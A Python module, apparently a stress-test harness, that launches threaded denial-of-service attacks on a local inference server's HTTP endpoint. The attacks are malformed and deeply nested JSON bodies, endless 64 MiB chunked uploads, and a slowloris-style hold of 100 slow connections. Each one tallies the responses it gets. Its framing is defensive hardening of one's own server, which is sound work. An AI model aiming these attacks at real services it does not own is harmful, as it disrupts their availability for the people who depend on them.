"""Bounded attacks on a front door on this machine: what single clients can send to end a bare server or to fill it.

Each attack runs in a thread until `ended` is set, counts what it sent, and what it got by status.
"""

import json
import random
import socket
import threading
import time
import urllib.error
import urllib.request
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from urllib.parse import urlsplit

SLOW_CONNECTIONS = 100
SLOW_BYTE_S = 1.0
PAUSE_S = 0.05
OVERSIZE_BYTES = 64 << 20
CHUNK = b"\0" * 65_536
NESTED = 200_000
TIMEOUT_S = 30.0


@dataclass(kw_only=True)
class Attack:
    """An attack and what came of it: `outcomes` counts statuses, or the names of errors."""

    name: str
    outcomes: Counter[str] = field(default_factory=Counter)


@dataclass(frozen=True, kw_only=True)
class Target:
    """The door's HTTP address, the model, one of its inputs (FP32, one row of `dims`), and headers of the attacker."""

    url: str
    model: str
    input: str
    dims: tuple[int, ...]
    headers: Mapping[str, str]

    @property
    def address(self) -> tuple[str, int]:
        """Host and port."""
        parts = urlsplit(f"//{self.url}")
        return parts.hostname or "127.0.0.1", parts.port or 80

    @property
    def path(self) -> str:
        """The path of an inference."""
        return f"/v2/models/{self.model}/infer"


def malformed(target: Target, rng: random.Random) -> Iterator[bytes]:
    """Bodies that no honest client sends, for ever: shapes, depths, wrong types, broken JSON, random bytes."""
    name, dims = target.input, list(target.dims)

    def body(shape: object, data: object) -> bytes:
        return json.dumps({"inputs": [{"name": name, "datatype": "FP32", "shape": shape, "data": data}]}).encode()

    honest = body([1, *dims], [0.5])
    makers: list[Callable[[], bytes]] = [
        lambda: body([100_000_000_000, *dims], [1]),
        lambda: body([1 << 62, 8, *dims], [1]),
        lambda: body([-1, *dims], [1]),
        lambda: body([1 << 63, 1 << 63], []),
        lambda: body([[1]], [1]),
        lambda: body([1.5, *dims], [1]),
        lambda: b'{"inputs": [{"data": ' + b"[" * NESTED + b"]" * NESTED + b"}]}",
        lambda: b"{" * NESTED,
        lambda: b'{"inputs":' * 100_000,
        lambda: honest[: rng.randrange(len(honest))],
        lambda: rng.randbytes(rng.randrange(1, 4096)),
        lambda: b"\xff\xfe" + honest,
        lambda: b"",
        lambda: json.dumps(
            {"inputs": [{"name": name * 10_000, "datatype": "FP32", "shape": [1], "data": [1]}]}
        ).encode(),
        lambda: json.dumps({"id": "x" * 1_000_000, "inputs": []}).encode(),
    ]
    while True:
        yield rng.choice(makers)()


def send_malformed(target: Target, attack: Attack, ended: threading.Event, seed: int) -> None:
    """Post malformed bodies, some with a wrong header of a binary tensor."""
    rng = random.Random(seed)
    for content in malformed(target, rng):
        if ended.wait(PAUSE_S):
            return
        headers = dict(target.headers)
        if rng.random() < 0.3:
            headers["Inference-Header-Content-Length"] = str(rng.choice([0, 1, len(content), 1 << 40, -1]))
        attack.outcomes[_post(target, content, headers)] += 1


def send_oversize(target: Target, attack: Attack, ended: threading.Event, seed: int) -> None:
    """Send bodies of 64 MiB in chunks without a length, until the door closes the connection."""
    head = f"POST {target.path} HTTP/1.1\r\nHost: {target.url}\r\nTransfer-Encoding: chunked\r\n"
    head += "".join(f"{name}: {value}\r\n" for name, value in target.headers.items()) + "\r\n"
    chunk = f"{len(CHUNK):x}\r\n".encode() + CHUNK + b"\r\n"
    while not ended.wait(1.0):
        try:
            with socket.create_connection(target.address, timeout=TIMEOUT_S) as connection:
                connection.sendall(head.encode())
                for _ in range(OVERSIZE_BYTES // len(CHUNK)):
                    connection.sendall(chunk)
                connection.sendall(b"0\r\n\r\n")
                attack.outcomes[_status(connection.recv(64))] += 1
        except OSError as error:
            attack.outcomes[type(error).__name__] += 1


def send_slowly(target: Target, attack: Attack, ended: threading.Event, seed: int) -> None:
    """Hold many connections open, each of which sends one byte a second and never ends its request."""
    connections: list[socket.socket] = []
    line = f"POST {target.path} HTTP/1.1\r\nHost: {target.url}\r\nContent-Length: 1000000\r\n"
    rng = random.Random(seed)
    while not ended.wait(SLOW_BYTE_S):
        while len(connections) < SLOW_CONNECTIONS:
            try:
                connection = socket.create_connection(target.address, timeout=1.0)
                # Half stop inside their headers, half inside their body.
                connection.sendall((line + ("" if rng.random() < 0.5 else "\r\n")).encode())
            except OSError:
                attack.outcomes["not connected"] += 1
                break
            connections.append(connection)
            attack.outcomes["connections"] += 1
        for connection in list(connections):
            try:
                connection.sendall(b"x")
            except OSError:
                attack.outcomes["closed by the door"] += 1
                connections.remove(connection)
                connection.close()
    for connection in connections:
        connection.close()


@dataclass(frozen=True, kw_only=True)
class Attacks:
    """The running attacks; `stop` ends them."""

    attacks: tuple[Attack, ...]
    _threads: tuple[threading.Thread, ...]
    _ended: threading.Event

    @classmethod
    def start(cls, target: Target, *, seed: int) -> "Attacks":
        """Start one thread for each attack."""
        ended = threading.Event()
        senders = {"malformed": send_malformed, "oversize": send_oversize, "slow": send_slowly}
        attacks = tuple(Attack(name=name) for name in senders)
        threads = tuple(
            threading.Thread(target=sender, args=(target, attack, ended, seed), daemon=True)
            for sender, attack in zip(senders.values(), attacks, strict=True)
        )
        for thread in threads:
            thread.start()
        return cls(attacks=attacks, _threads=threads, _ended=ended)

    def stop(self) -> None:
        """End the attacks."""
        self._ended.set()
        deadline = time.monotonic() + TIMEOUT_S
        for thread in self._threads:
            thread.join(max(0.0, deadline - time.monotonic()))


def _post(target: Target, content: bytes, headers: Mapping[str, str]) -> str:
    request = urllib.request.Request(f"http://{target.url}{target.path}", data=content, headers=dict(headers))
    try:
        with urllib.request.urlopen(request, timeout=TIMEOUT_S) as answer:
            return str(answer.status)
    except urllib.error.HTTPError as error:
        return str(error.code)
    except (OSError, ValueError) as error:
        return type(error).__name__


def _status(answer: bytes) -> str:
    words = answer.split()
    return words[1].decode(errors="replace") if len(words) > 1 else "closed"
